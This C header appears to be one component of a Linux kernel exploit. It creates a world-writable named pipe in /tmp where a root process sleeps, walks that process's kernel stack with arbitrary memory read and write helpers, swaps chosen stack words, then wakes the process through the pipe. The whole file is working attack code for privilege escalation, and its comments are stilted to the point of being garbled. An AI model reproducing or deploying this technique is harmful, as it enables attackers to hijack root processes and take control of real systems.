/* SPDX-License-Identifier: GPL-2.0-only */
/* sleeper.h - a program of root that sleeps in a call on a pipe with a name, which the attacker may
 * write to: what the call goes on with stands on its kernel stack. */
#ifndef SLEEPER_H
#define SLEEPER_H

#include "saved_thread.h"

#define FIFO "/tmp/fifo"
#define STACK_BYTES 4096

static bool control(void)
{
	await(is_asleep(victim_task(own_task())));
	return is_ordinary() && peek32(victim_task(own_task()) + member("task.id")) != 0;
}

/* Of root's program. */
static inline uint64_t sleeper_stack_top(void)
{
	return peek(victim_task(own_task()) + member("task.arch.stack_top"));
}

/* Words on the sleeper's stack that say ONE say OTHER from now on. */
static inline void sleeper_exchange(uint64_t one, uint64_t other)
{
	const uint64_t top = sleeper_stack_top();

	for (uint64_t at = top - STACK_BYTES; at < top; at += 8)
		if (peek(at) == one)
			poke(at, other);
}

/* It goes on, with SIZE bytes; until it has ended. */
static inline void sleeper_wake(const void *bytes, size_t size)
{
	const long file = call3(__NR_open, (long)FIFO, O_WRONLY, 0);

	call3(__NR_write, file, (long)bytes, (long)size);
	await(victim_has_ended());
}

/* For root's program: the pipe to sleep for. */
static inline long make_fifo(void)
{
	call3(__NR_mknod, (long)FIFO, 0010000 | 0666, 0);
	call2(__NR_chmod, (long)FIFO, 0666);
	return call3(__NR_open, (long)FIFO, O_RDWR, 0);
}

#endif
